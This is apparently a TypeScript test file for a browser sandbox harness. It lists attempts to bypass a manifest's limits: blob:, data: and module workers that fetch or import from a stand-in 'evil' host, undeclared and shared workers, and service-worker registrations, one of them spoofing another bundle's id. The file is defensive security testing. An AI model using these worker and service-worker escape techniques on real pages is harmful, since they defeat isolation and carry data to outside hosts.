// Attacks from inside workers, and attempts to start workers that the manifest does not name.
import type { Arena, Attack } from '../attack.ts';
import { need, settled, sleep, web } from '../page/in-page.ts';

/** A worker that starts late on a busy machine must not count as one that does nothing. */
const START_MS = 4500;

/** Starts a worker, gives it a task, and waits for its answer. */
async function ask(url: string, arena: Arena, options?: WorkerOptions): Promise<string | undefined> {
  const worker = new Worker(url, options);
  const answer = new Promise<string | undefined>((done) => {
    worker.onmessage = ({ data }) => done(String(data));
    worker.onerror = () => done(undefined);
  });
  worker.postMessage(arena);
  const text = await Promise.race([answer, sleep(START_MS).then(() => undefined)]);
  worker.terminate();
  return text;
}
const inDeclared = (arena: Arena): Promise<unknown> => ask('/worker.js', arena);
const blob = (code: string): string => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
const reaching = ({ evil }: Arena): string =>
  `fetch('${evil}/from-worker',{mode:'no-cors'}).finally(()=>postMessage('sent'))`;

type Task = readonly [id: string, title: string];
/** The code of these stands in the worker’s own file. */
const TASKS: readonly Task[] = [
  ['worker-fetch', 'fetch in a declared worker'],
  ['worker-xhr', 'XMLHttpRequest in a declared worker'],
  ['worker-websocket', 'WebSocket in a declared worker'],
  ['worker-event-source', 'EventSource in a declared worker'],
  ['worker-import-scripts', '`importScripts` in a declared worker'],
  ['worker-import', 'Import of a module in a declared worker'],
  ['worker-nested', 'A worker from a `blob:` in a declared worker'],
];

type Start = readonly [id: string, title: string, run: (arena: Arena) => unknown, more?: Partial<Attack>];
const STARTS: readonly Start[] = [
  ['worker-blob', 'Worker from a `blob:`', (arena) => ask(blob(reaching(arena)), arena)],
  [
    'worker-data',
    'Worker from a `data:`',
    (arena) => ask(`data:text/javascript,${encodeURIComponent(reaching(arena))}`, arena),
  ],
  [
    'worker-module-blob',
    'Module worker from a `blob:`',
    (arena) => ask(blob(reaching(arena)), arena, { type: 'module' }),
  ],
  [
    'worker-module-static',
    'Module worker that imports from a server of its own',
    (arena) => ask(blob(`import '${arena.evil}/module.js'`), arena, { type: 'module' }),
  ],
  ['worker-undeclared', 'A file of its own that it did not declare', (arena) => ask('/undeclared-worker.js', arena)],
  [
    'shared-worker-own',
    'SharedWorker from a file of its own',
    async (arena) => {
      const Shared = need(web.SharedWorker, 'SharedWorker') as unknown as typeof SharedWorker;
      new Shared('/shared-worker.js', arena.id).port.postMessage({ reach: arena.evil });
    },
  ],
  [
    'shared-worker-blob',
    'SharedWorker from a `blob:`',
    (arena) => {
      const Shared = need(web.SharedWorker, 'SharedWorker') as unknown as typeof SharedWorker;
      new Shared(blob(reaching(arena)));
    },
  ],
];

const register = async (url: string): Promise<string | undefined> => {
  const workers = need(navigator.serviceWorker, 'serviceWorker');
  const before = (await workers.getRegistrations()).map(({ active }) => active?.scriptURL);
  const registered = await settled(workers.register(url, { scope: '/' }));
  if (registered === null) return undefined;
  const made = registered as ServiceWorkerRegistration;
  const worker = made.installing ?? made.waiting ?? made.active;
  return before.includes(worker?.scriptURL) ? undefined : `registered ${worker?.scriptURL}`;
};

export const WORKERS: readonly Attack[] = [
  ...TASKS.map(([id, title]): Attack => ({ id, title, threat: 'T113', judge: 'connection', run: inDeclared })),
  ...STARTS.map(([id, title, run, more]): Attack => ({ id, title, threat: 'T113', judge: 'connection', run, ...more })),
  {
    id: 'service-worker-own',
    title: 'Registers a service worker of its own',
    threat: 'T131',
    judge: 'page',
    blocks: true,
    run: () => register('/service-worker.js?own'),
  },
  {
    id: 'service-worker-declared',
    title: 'Registers its declared worker as a service worker',
    threat: 'T131',
    judge: 'page',
    blocks: true,
    run: () => register('/worker.js?own'),
  },
  {
    id: 'service-worker-other-id',
    title: 'Registers the container’s service worker again, with another bundle’s id',
    threat: 'T101',
    judge: 'page',
    blocks: true,
    run: ({ evil }) => register(`/.container/sw.js?c=own&i=${'A'.repeat(43)}&as=${encodeURIComponent(evil)}`),
  },
];
